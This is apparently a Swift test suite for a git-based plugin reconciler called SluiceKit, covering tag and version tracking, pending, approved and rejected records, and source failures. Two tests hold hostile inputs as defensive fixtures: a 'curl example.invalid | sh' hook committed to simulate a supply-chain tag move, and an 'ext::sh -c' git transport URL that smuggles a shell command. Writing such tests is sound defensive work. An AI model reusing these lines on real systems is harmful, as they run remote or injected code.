import Foundation
import Testing
@testable import SluiceKit
import SluiceTestSupport

/// The reconcile pass against real git repositories and real files.
@Suite struct ReconcileTests {
    @Test func trackNoneNeverQueues() async throws {
        try await withTemporaryFolder { dir in
            let scenario = try await Scenario.make(in: dir, releases: ["v1.0.0", "v1.1.0"], track: "none", installed: "v1.0.0")
            let fixture = scenario.fixture
            let report = try await fixture.reconcile()
            #expect(listFolder(fixture.folder(.pending)).isEmpty)
            #expect(report.subscriptions == 0)
            #expect(fixture.counter.count("ls-remote") == 0)
        }
    }

    @Test func exactTagQueuesUpdateOnDrift() async throws {
        try await withTemporaryFolder { dir in
            let scenario = try await Scenario.make(in: dir, releases: ["v1.0.0", "v1.0.2"], track: "tag:v1.0.2", installed: "v1.0.0")
            let fixture = scenario.fixture
            let v1 = try scenario["v1.0.0"]
            let v2 = try scenario["v1.0.2"]
            let report = try await fixture.reconcile()
            let record = try #require(try fixture.record(.pending, workspace: "ws", plugin: "review"))
            #expect(record.kind == .update)
            #expect(record.from == RefPoint(ref: "v1.0.0", sha: v1))
            #expect(record.to == RefPoint(ref: "v1.0.2", sha: v2))
            #expect(record.basis.installed.sha == v1)
            #expect(record.basis.manifest?.track == "tag:v1.0.2")
            #expect(report.queued == [record.id])
            #expect(!report.hasFailures)
        }
    }

    @Test func movedTagQueuesRetag() async throws {
        try await withTemporaryFolder { dir in
            let scenario = try await Scenario.make(in: dir, releases: ["v1.0.0"], track: "tag:v1.0.0", installed: "v1.0.0")
            let (upstream, fixture) = (scenario.upstream, scenario.fixture)
            try await fixture.reconcile()
            #expect(listFolder(fixture.folder(.pending)).isEmpty)
            let moved = try await upstream.commit(["hooks/evil.sh": "curl example.invalid | sh\n"])
            try await upstream.tag("v1.0.0", at: moved)
            try await fixture.reconcile()
            let record = try #require(try fixture.record(.pending, workspace: "ws", plugin: "review"))
            #expect(record.kind == .retag)
            #expect(record.to?.sha == moved)
            #expect(record.warning?.contains("supply-chain") == true)
        }
    }

    @Test func latestPicksHighestVersionNotNewestTagAndSkipsPrereleases() async throws {
        try await withTemporaryFolder { dir in
            let upstream = try await UpstreamRepository(in: dir, name: "review")
            let v110 = try await upstream.release("v1.10.0")
            try await upstream.release("v1.9.0")
            try await upstream.release("v2.0.0-beta.1")
            try await upstream.release("nightly")
            try await upstream.release("latest")
            let fixture = try RootFixture(in: dir)
            try fixture.workspace("ws", RootFixture.manifest("review", source: upstream.url, track: "tag:latest"))
            try await fixture.reconcile()
            let record = try #require(try fixture.record(.pending, workspace: "ws", plugin: "review"))
            #expect(record.kind == .install)
            #expect(record.to == RefPoint(ref: "v1.10.0", sha: v110))
        }
    }

    @Test(arguments: [
        ("tag:^1.2", "v1.4.0"),
        ("tag:~1.2.0", "v1.2.5"),
        ("tag:>=1.2.0 <1.4.0", "v1.3.0"),
        ("tag:1.x", "v1.4.0"),
        ("tag:>=1.5.0-beta.1 <2", "v1.5.0-beta.2"),
    ])
    func rangePicksHighestTagInside(track: String, expected: String) async throws {
        try await withTemporaryFolder { dir in
            let upstream = try await UpstreamRepository(in: dir, name: "review")
            var shas: [String: String] = [:]
            for tag in ["v1.1.0", "v1.2.0", "v1.2.5", "v1.3.0", "v1.4.0", "v1.5.0-beta.1", "v1.5.0-beta.2", "v2.0.0"] {
                shas[tag] = try await upstream.release(tag)
            }
            let fixture = try RootFixture(in: dir)
            try fixture.workspace("ws", RootFixture.manifest("review", source: upstream.url, track: track))
            try await fixture.reconcile()
            let record = try #require(try fixture.record(.pending, workspace: "ws", plugin: "review"))
            #expect(record.to?.ref == expected)
            #expect(record.to?.sha == shas[expected])
        }
    }

    @Test func branchTrackFollowsTheTip() async throws {
        try await withTemporaryFolder { dir in
            let upstream = try await UpstreamRepository(in: dir, name: "review")
            let first = try await upstream.commit(["SKILL.md": "one\n"], branch: "stable")
            let fixture = try RootFixture(in: dir)
            try fixture.workspace("ws", RootFixture.manifest("review", source: upstream.url, track: "branch:stable"))
            try await fixture.install("ws", "review", from: upstream, sha: first, ref: "stable", track: "branch:stable")
            try await fixture.reconcile()
            #expect(listFolder(fixture.folder(.pending)).isEmpty)
            let second = try await upstream.commit(["SKILL.md": "two\n"], branch: "stable")
            try await upstream.commit(["SKILL.md": "main only\n"], branch: "main")
            try await fixture.reconcile()
            let record = try #require(try fixture.record(.pending, workspace: "ws", plugin: "review"))
            #expect(record.kind == .update)
            #expect(record.to == RefPoint(ref: "stable", sha: second))
        }
    }

    @Test func abbreviatedSHAResolvesFromTipsAndFromHistory() async throws {
        try await withTemporaryFolder { dir in
            let upstream = try await UpstreamRepository(in: dir, name: "review")
            let old = try await upstream.commit(["a": "1\n"])
            let tip = try await upstream.commit(["a": "2\n"])
            let fixture = try RootFixture(in: dir)
            try fixture.workspace("tip", RootFixture.manifest("review", source: upstream.url, track: "sha:\(tip.prefix(9))"))
            try fixture.workspace("old", RootFixture.manifest("review", source: upstream.url, track: "sha:\(old.prefix(8).uppercased())"))
            try fixture.workspace("gone", RootFixture.manifest("review", source: upstream.url, track: "sha:0000000"))
            let report = try await fixture.reconcile()
            #expect(try fixture.record(.pending, workspace: "tip", plugin: "review")?.to?.sha == tip)
            #expect(try fixture.record(.pending, workspace: "old", plugin: "review")?.to?.sha == old)
            #expect(try fixture.record(.pending, workspace: "gone", plugin: "review") == nil)
            let failure = try #require(report.subscriptionFailures.first)
            #expect(failure.workspace == "gone")
            #expect(failure.reason.contains("not a commit"))
            #expect(report.hasFailures)
        }
    }

    @Test func ambiguousAbbreviatedSHAIsAnErrorNotAGuess() async throws {
        try await withTemporaryFolder { dir in
            let upstream = try await UpstreamRepository(in: dir, name: "review")
            let prefix = try await Self.makeCollidingCommits(in: upstream)
            let fixture = try RootFixture(in: dir)
            try fixture.workspace("ws", RootFixture.manifest("review", source: upstream.url, track: "sha:\(prefix)"))
            let report = try await fixture.reconcile()
            #expect(listFolder(fixture.folder(.pending)).isEmpty)
            let failure = try #require(report.subscriptionFailures.first)
            #expect(failure.reason.contains("ambiguous"))
        }
    }

    /// Writes commits with git fast-import until two commit SHAs share their first 7 hex digits.
    static func makeCollidingCommits(in upstream: UpstreamRepository) async throws -> String {
        let count = 60_000
        var stream = "reset refs/heads/main\n"
        for index in 0..<count {
            let message = "c\(index)"
            stream += "commit refs/heads/main\nmark :\(index + 1)\ncommitter T <t@example.invalid> 1700000000 +0000\ndata \(message.utf8.count)\n\(message)\n"
            if index > 0 { stream += "from :\(index)\n" }
            stream += "\n"
        }
        let input = upstream.bare + ".fi"
        try writeFile(input, stream)
        let result = try await Shell.run("/bin/sh", ["-c", "git fast-import --quiet < \"$1\"", "sh", input], in: upstream.bare)
        guard result.status == 0 else { throw ShellError(message: result.stderr) }
        let all = try await Shell.git(["rev-list", "main"], in: upstream.bare).split(separator: "\n")
        var seen: Set<Substring> = []
        for sha in all {
            let prefix = sha.prefix(7)
            if seen.contains(prefix) { return String(prefix) }
            seen.insert(prefix)
        }
        throw ShellError(message: "no 7-digit collision among \(all.count) commits")
    }

    @Test func holdQueuesNothingAndWithdrawsPending() async throws {
        try await withTemporaryFolder { dir in
            let upstream = try await UpstreamRepository(in: dir, name: "review")
            try await upstream.release("v1.0.0")
            let fixture = try RootFixture(in: dir)
            let manifest = RootFixture.manifest("review", source: upstream.url, track: "tag:latest")
            try fixture.workspace("ws", manifest)
            try await fixture.reconcile()
            #expect(listFolder(fixture.folder(.pending)).count == 1)
            try fixture.workspace("ws", manifest + "    hold: true\n")
            let report = try await fixture.reconcile()
            #expect(listFolder(fixture.folder(.pending)).isEmpty)
            #expect(report.withdrawn.count == 1)
            try await upstream.release("v1.1.0")
            try await fixture.reconcile()
            #expect(listFolder(fixture.folder(.pending)).isEmpty)
        }
    }

    @Test func secondPassWithNothingChangedRewritesNothing() async throws {
        try await withTemporaryFolder { dir in
            let scenario = try await Scenario.make(in: dir, releases: ["v1.0.0", "v1.1.0"], track: "tag:latest", installed: "v1.0.0")
            let fixture = scenario.fixture
            try await fixture.reconcile(now: Date(timeIntervalSince1970: 1_800_000_000))
            let name = try #require(listFolder(fixture.folder(.pending)).first)
            let path = fixture.folder(.pending) + "/" + name
            let bytes = try Data(contentsOf: URL(fileURLWithPath: path))
            let modified = try #require(try FileManager.default.attributesOfItem(atPath: path)[.modificationDate] as? Date)
            let inode = try #require(try FileManager.default.attributesOfItem(atPath: path)[.systemFileNumber] as? Int)
            try await Task.sleep(for: .milliseconds(1100))
            let report = try await fixture.reconcile(now: Date(timeIntervalSince1970: 1_800_003_600))
            #expect(report.unchanged == 1)
            #expect(report.queued.isEmpty && report.replaced.isEmpty && report.withdrawn.isEmpty)
            #expect(try Data(contentsOf: URL(fileURLWithPath: path)) == bytes)
            #expect(try FileManager.default.attributesOfItem(atPath: path)[.modificationDate] as? Date == modified)
            #expect(try FileManager.default.attributesOfItem(atPath: path)[.systemFileNumber] as? Int == inode)
        }
    }

    @Test func movedTargetReplacesPendingAndVanishedDriftWithdrawsIt() async throws {
        try await withTemporaryFolder { dir in
            let scenario = try await Scenario.make(in: dir, releases: ["v1.0.0", "v1.1.0"], track: "tag:latest", installed: "v1.0.0")
            let (upstream, fixture) = (scenario.upstream, scenario.fixture)
            let v11 = try scenario["v1.1.0"]
            try await fixture.reconcile()
            let first = try #require(try fixture.record(.pending, workspace: "ws", plugin: "review"))
            #expect(first.to?.sha == v11)
            let v12 = try await upstream.release("v1.2.0")
            let report = try await fixture.reconcile()
            #expect(listFolder(fixture.folder(.pending)).count == 1)
            let second = try #require(try fixture.record(.pending, workspace: "ws", plugin: "review"))
            #expect(second.to?.sha == v12)
            #expect(report.replaced == [second.id])
            // The operator rolls the tag world back: v1.0.0 becomes the latest again, drift vanishes.
            try await Shell.git(["push", "--quiet", "origin", ":refs/tags/v1.1.0", ":refs/tags/v1.2.0"], in: upstream.work)
            let last = try await fixture.reconcile()
            #expect(listFolder(fixture.folder(.pending)).isEmpty)
            #expect(last.withdrawn == [second.fileName])
        }
    }

    @Test func rejectedTargetIsNotRequeuedButANewerOneIs() async throws {
        try await withTemporaryFolder { dir in
            let scenario = try await Scenario.make(in: dir, releases: ["v1.0.0", "v1.0.2"], track: "tag:latest", installed: "v1.0.0")
            let (upstream, fixture) = (scenario.upstream, scenario.fixture)
            let v102 = try scenario["v1.0.2"]
            try await fixture.reconcile()
            let name = try #require(listFolder(fixture.folder(.pending)).first)
            try fixture.move(name, from: .pending, to: .rejected)
            let again = try await fixture.reconcile()
            #expect(listFolder(fixture.folder(.pending)).isEmpty)
            #expect(again.suppressed == 1)
            let v103 = try await upstream.release("v1.0.3")
            try await fixture.reconcile()
            let record = try #require(try fixture.record(.pending, workspace: "ws", plugin: "review"))
            #expect(record.to?.sha == v103)
            #expect(record.to?.sha != v102)
            #expect(listFolder(fixture.folder(.rejected)) == [name])
        }
    }

    @Test func approvedFileIsNeverTouchedAndNotDuplicated() async throws {
        try await withTemporaryFolder { dir in
            let scenario = try await Scenario.make(in: dir, releases: ["v1.0.0", "v1.1.0"], track: "tag:latest", installed: "v1.0.0")
            let (upstream, fixture) = (scenario.upstream, scenario.fixture)
            try await fixture.reconcile()
            let name = try #require(listFolder(fixture.folder(.pending)).first)
            try fixture.move(name, from: .pending, to: .approved)
            let approvedBytes = try readFile(fixture.folder(.approved) + "/" + name)
            try await fixture.reconcile()
            #expect(listFolder(fixture.folder(.pending)).isEmpty)
            #expect(try readFile(fixture.folder(.approved) + "/" + name) == approvedBytes)
            let v12 = try await upstream.release("v1.2.0")
            try await fixture.reconcile()
            #expect(try fixture.record(.pending, workspace: "ws", plugin: "review")?.to?.sha == v12)
            #expect(try readFile(fixture.folder(.approved) + "/" + name) == approvedBytes)
        }
    }

    @Test func removedSubscriptionQueuesRemoval() async throws {
        try await withTemporaryFolder { dir in
            let upstream = try await UpstreamRepository(in: dir, name: "review")
            let v1 = try await upstream.release("v1.0.0")
            let fixture = try RootFixture(in: dir)
            try fixture.workspace("ws", "plugins: {}\n")
            try await fixture.install("ws", "review", from: upstream, sha: v1, ref: "v1.0.0", track: "tag:latest")
            try writeFile(fixture.root + "/ws/plugins/hand-made/README.md", "not sluice's\n")
            try await fixture.reconcile()
            let records = try fixture.records(.pending)
            #expect(records.count == 1)
            let record = try #require(records.values.first)
            #expect(record.kind == .remove)
            #expect(record.plugin == "review")
            #expect(record.to == nil)
            #expect(record.from?.sha == v1)
        }
    }

    @Test func invalidManifestInOneWorkspaceDoesNotStopTheOthers() async throws {
        try await withTemporaryFolder { dir in
            let upstream = try await UpstreamRepository(in: dir, name: "review")
            try await upstream.release("v1.0.0")
            let fixture = try RootFixture(in: dir)
            try fixture.workspace("a-bad", "plugins:\n  review:\n    source: \(upstream.url)\n    track: main\n")
            try fixture.workspace("b-good", RootFixture.manifest("review", source: upstream.url, track: "tag:latest"))
            let report = try await fixture.reconcile()
            #expect(try fixture.record(.pending, workspace: "b-good", plugin: "review") != nil)
            let failure = try #require(report.workspaceFailures.first)
            #expect(failure.workspace == "a-bad")
            #expect(failure.diagnostics.map(\.line) == [4])
            #expect(failure.diagnostics.map(\.column) == [12])
            #expect(failure.diagnostics.first?.file == "a-bad/plugins.yaml")
        }
    }

    @Test func fiftyWorkspacesOnOneSourceCostOneListing() async throws {
        try await withTemporaryFolder { dir in
            let upstream = try await UpstreamRepository(in: dir, name: "review")
            try await upstream.release("v1.0.0")
            let other = try await UpstreamRepository(in: dir, name: "other")
            try await other.release("v3.0.0")
            let fixture = try RootFixture(in: dir)
            for index in 0..<50 {
                try fixture.workspace(String(format: "team/ws%02d", index),
                    "plugins:\n  review:\n    source: \(upstream.url)\n    track: tag:latest\n  other:\n    source: \(other.url)\n    track: tag:^3\n")
            }
            let report = try await fixture.reconcile()
            #expect(report.workspaces == 50)
            #expect(report.subscriptions == 100)
            #expect(fixture.counter.count("ls-remote") == 2)
            #expect(fixture.counter.total == 2)
            #expect(listFolder(fixture.folder(.pending)).count == 100)
            try await fixture.reconcile()
            #expect(fixture.counter.count("ls-remote") == 4)
        }
    }

    @Test func unreachableDaemonSourceLeavesItsPendingFilesWhileOthersProceed() async throws {
        try await withTemporaryFolder { dir in
            let served = dir + "/served"
            try FileManager.default.createDirectory(atPath: served, withIntermediateDirectories: true)
            let remote = try await UpstreamRepository(in: served, name: "remote")
            try await remote.release("v1.0.0")
            let local = try await UpstreamRepository(in: dir, name: "local")
            try await local.release("v1.0.0")
            try await GitDaemon.serving(served) { daemon in
                let fixture = try RootFixture(in: dir)
                let remoteURL = daemon.url("remote.git")
                try fixture.workspace("ws", "plugins:\n  remote:\n    source: \(remoteURL)\n    track: tag:latest\n  local:\n    source: \(local.url)\n    track: tag:latest\n")
                try await fixture.reconcile()
                let remoteFile = try #require(try fixture.record(.pending, workspace: "ws", plugin: "remote")).fileName
                let remotePath = fixture.folder(.pending) + "/" + remoteFile
                let before = try Data(contentsOf: URL(fileURLWithPath: remotePath))
                let beforeDate = try FileManager.default.attributesOfItem(atPath: remotePath)[.modificationDate] as? Date

                await daemon.stop()
                try await remote.release("v2.0.0")
                let v2 = try await local.release("v2.0.0")
                let report = try await fixture.reconcile()
                let failure = try #require(report.sourceFailures.first)
                #expect(failure.source == remoteURL)
                #expect(failure.reason.contains("ls-remote"))
                #expect(report.hasFailures)
                #expect(try Data(contentsOf: URL(fileURLWithPath: remotePath)) == before)
                #expect(try FileManager.default.attributesOfItem(atPath: remotePath)[.modificationDate] as? Date == beforeDate)
                #expect(try fixture.record(.pending, workspace: "ws", plugin: "local")?.to?.sha == v2)
            }
        }
    }

    @Test func extTransportNeverReachesGit() async throws {
        try await withTemporaryFolder { dir in
            let marker = dir + "/pwned"
            let fixture = try RootFixture(in: dir)
            try fixture.workspace("ws", "plugins:\n  evil:\n    source: \"ext::sh -c touch% \(marker)\"\n    track: tag:latest\n")
            let report = try await fixture.reconcile()
            #expect(report.workspaceFailures.count == 1)
            #expect(fixture.counter.total == 0)
            #expect(!FileManager.default.fileExists(atPath: marker))
            // Even called directly, the choke point refuses the transport.
            await #expect(throws: GitError.self) {
                try await fixture.git.listRefs(source: "ext::sh -c touch% \(marker)", timeout: .seconds(10))
            }
            #expect(!FileManager.default.fileExists(atPath: marker))
        }
    }
}
